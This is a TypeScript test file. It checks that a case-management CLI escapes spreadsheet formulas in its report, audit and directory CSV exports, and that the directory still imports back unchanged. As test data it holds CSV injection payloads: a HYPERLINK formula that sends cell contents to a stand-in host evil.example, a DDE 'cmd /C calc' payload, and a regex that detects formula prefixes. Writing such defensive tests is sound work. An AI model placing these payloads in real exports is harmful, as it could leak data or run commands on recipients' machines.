/**
 * CSV formula injection: every CSV the CLI writes (report, audit export, directory export) escapes a cell that
 * starts with = + - @ (a spreadsheet would run it), and the directory export still imports back unchanged.
 */
import { strict as assert } from 'node:assert';
import { parse } from 'csv-parse/sync';
import { auditCsv, type AuditRow } from '../../src/app/auditTrail';
import { CaseService } from '../../src/app/caseService';
import type { CaseDoc } from '../../src/app/caseDocument';
import { parseDirectoryCsv } from '../../src/app/directoryCsv';
import { demoDirectory } from '../../src/app/directoryFile';
import { ProcedureCatalog } from '../../src/app/procedures';
import { runCli } from '../../src/cli/run';
import type { Directory } from '../../src/domain/directory';
import type { Store } from '../../src/store/cosmos';
import { testStore } from '../store/harness';

const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const THEME = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';

/** Every cell of a CSV (header included) that a spreadsheet would treat as a formula. */
function formulaCells(csv: string): string[] {
  const rows: string[][] = parse(csv, { relax_column_count: true });
  assert.ok(rows.length > 1, 'the CSV has rows');
  return rows.flat().filter((cell) => FORMULA.test(cell));
}

/** The demo directory with names a spreadsheet would run, or that only survive a careful import. */
function hostileDirectory(): Directory {
  const d = demoDirectory();
  const names = ['=1+1', '+44 Team', '-', '@SUM(A1:A2)', "'=quoted", '-Dash Smith'];
  return {
    ...d,
    partnership: { ...d.partnership, themes: [{ id: 'typed', label: THEME }] }, // a theme label from a file
    agencies: d.agencies.map((a, i) => (i === 0 ? { ...a, name: '-Children (North)' } : a)),
    people: d.people.map((p, i) => (i < names.length ? { ...p, name: names[i]! } : p)),
  };
}

describe('CSV output escapes formulas', function () {
  this.timeout(60_000);
  let store: Store;
  const dir = hostileDirectory();

  async function cli(...argv: string[]) {
    const out: string[] = [];
    const err: string[] = [];
    const code = await runCli(
      argv,
      { out: (s) => out.push(s), err: (s) => err.push(s) },
      {
        store: () => Promise.resolve({ ...store, close: () => Promise.resolve() }),
        partnershipId: dir.partnership.id,
        now: () => new Date('2026-12-20T12:00:00Z'),
      },
    );
    assert.equal(code, 0, err.join('\n'));
    return out.join('\n');
  }

  before(async () => {
    store = await testStore();
    await store.directory.save(dir);
    const raiser = dir.people.find((p) => p.role === 'practitioner' && p.agencyId === dir.agencies[0]!.id)!;
    const other = dir.people.find((p) => p.role === 'practitioner' && p.agencyId !== raiser.agencyId)!;
    let now = new Date('2026-12-07T10:00:00Z');
    const service = new CaseService({
      cases: store.cases,
      procedures: new ProcedureCatalog(store.settings),
      directory: () => Promise.resolve(dir),
      now: () => now,
    });
    const run = (by: string, command: Parameters<CaseService['run']>[0]['command']) =>
      service.run({ caseId: 'csv-1', partnershipId: dir.partnership.id, by, command });
    await run(raiser.id, {
      type: 'raise',
      caseId: 'csv-1',
      partnershipId: dir.partnership.id,
      procedureId: 'conflict-resolution-flowchart',
      reference: 'CSC/2026/0001', // the demo's CSC format
      theme: 'typed',
      summary: '@everyone -1 +1 =1',
      otherProfessionalId: other.id,
      imminentRisk: false,
      conflictWithOwnManager: false,
      supporterId: null,
    });
    now = new Date('2026-12-07T11:00:00Z');
    await run(raiser.id, { type: 'withdraw', reason: '=cmd|" /C calc"!A0' });
    assert.equal((await store.cases.get<CaseDoc>('csv-1'))!.state.theme, 'typed');
  });
  after(async () => {
    await store.close();
  });

  it('report --format csv: a typed theme and agency names are not formulas', async () => {
    const csv = await cli('report', '--from', '2026-12-01', '--to', '2026-12-31', '--format', 'csv');
    assert.deepEqual(formulaCells(csv), []);
    const rows = parse<{ figure: string; key: string }>(csv, { columns: true });
    assert.deepEqual(
      rows.filter((r) => r.figure === 'theme').map((r) => r.key),
      [`'${THEME}`],
    );
    assert.ok(rows.some((r) => r.key === "'-Children (North)"));
  });

  it('audit export --format csv: no cell is a formula, even one a stored record starts with =', async () => {
    const csv = await cli('audit', 'export', '--from', '2026-12-01', '--to', '2026-12-31', '--format', 'csv');
    assert.deepEqual(formulaCells(csv), []);
    // a reference is checked when typed, but an export must not trust what the store holds
    const row: AuditRow = {
      caseId: 'c1',
      reference: '=HYPERLINK("https://evil.example")',
      seq: 1,
      at: '2026-12-07T10:00:00.000Z',
      by: '@someone',
      type: 'CaseRaised',
      source: '+bot',
      data: { theme: THEME },
      prevHash: '-',
      hash: 'abc',
    };
    assert.deepEqual(formulaCells(auditCsv([row], true)), []);
  });

  it('directory export --format csv: no cell is a formula, and it imports back to the same directory', async () => {
    const csv = await cli('directory', 'export', '--format', 'csv');
    assert.deepEqual(formulaCells(csv), []);
    const back = parseDirectoryCsv(csv);
    assert.ok(back.ok, JSON.stringify(!back.ok && back.errors));
    assert.deepEqual(back.directory, JSON.parse(JSON.stringify(dir)));
    assert.deepEqual(
      back.directory.people.slice(0, 6).map((p) => p.name),
      ['=1+1', '+44 Team', '-', '@SUM(A1:A2)', "'=quoted", '-Dash Smith'],
    );
  });
});
